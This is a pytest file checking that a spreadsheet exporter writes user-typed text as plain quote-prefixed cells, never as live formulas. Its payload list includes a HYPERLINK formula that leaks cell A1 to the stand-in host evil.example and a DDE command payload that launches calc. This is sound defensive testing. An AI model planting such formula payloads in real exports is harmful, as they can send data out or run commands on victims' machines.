"""Text typed by anyone never becomes a live formula in an exported spreadsheet."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from daiban.assessment.tests.builders import CaseSpec, ItemSpec, build
from daiban.assessment.xlsx import write_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1"]


def sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_every_trigger_character_is_written_as_a_text_cell_with_the_quote_prefix():
    target = io.BytesIO()
    write_xlsx(target, title="t", columns=[("值", 20)], rows=[[value] for value in PAYLOADS])
    xml = sheet_xml(target.getvalue())
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(io.BytesIO(target.getvalue()))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == PAYLOADS
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_ordinary_text_numbers_and_control_characters_are_written_plainly():
    target = io.BytesIO()
    write_xlsx(target, title="t", columns=[("值", 20), ("数", 8)], rows=[["年产5万套阀门项目", -3], ["a\x01b\x00c", 2]])
    rows = list(load_workbook(io.BytesIO(target.getvalue())).active.iter_rows(min_row=2, values_only=True))
    assert rows == [("年产5万套阀门项目", -3), ("abc", 2)]


@pytest.mark.django_db
def test_a_formula_typed_as_a_project_name_is_text_in_the_ledger(person, api_as):
    name = '=HYPERLINK("http://evil.example","年产项目")'
    build(CaseSpec("鳌江镇", "2025-03-03", "2025-03-04 09:30", agent="aojiang", project=name,
                   company="@平阳县鳌江阀门有限公司", items=[ItemSpec("L05", "2025-03-05")]))
    answer = api_as("center").get("ledger.xlsx", {"from": "2025-03-01", "to": "2025-03-31"})
    data = b"".join(answer.streaming_content)
    assert "<f>" not in sheet_xml(data)
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    project = next(cell for cell in rows[0] if cell.value == name)
    company = next(cell for cell in rows[0] if cell.value == "@平阳县鳌江阀门有限公司")
    assert project.quotePrefix and company.quotePrefix
